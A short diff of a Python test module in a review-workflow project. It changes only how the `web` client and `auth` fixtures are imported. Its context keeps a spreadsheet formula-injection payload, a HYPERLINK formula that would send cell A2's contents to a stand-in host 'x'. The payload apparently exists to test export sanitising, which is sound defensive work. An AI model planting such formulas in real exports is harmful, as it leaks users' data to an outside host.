@@ -20,7 +20,7 @@ from yikatong.workflow.models import Action, Application, PublicityEntry
 from . import test_views
 from .test_views import FARMLAND, FOREST, SPECIAL, accepted, at_township, other_township_reviewer
 
-web, auth = test_views.web, test_views.auth  # the review-road tests' fixtures: a client and bearer logins
+auth = test_views.auth  # the review-road tests' bearer logins (the client, `web`, is the workflow conftest's)
 
 PAYLOAD = '=HYPERLINK("http://x/?"&A2,"详情")'
 
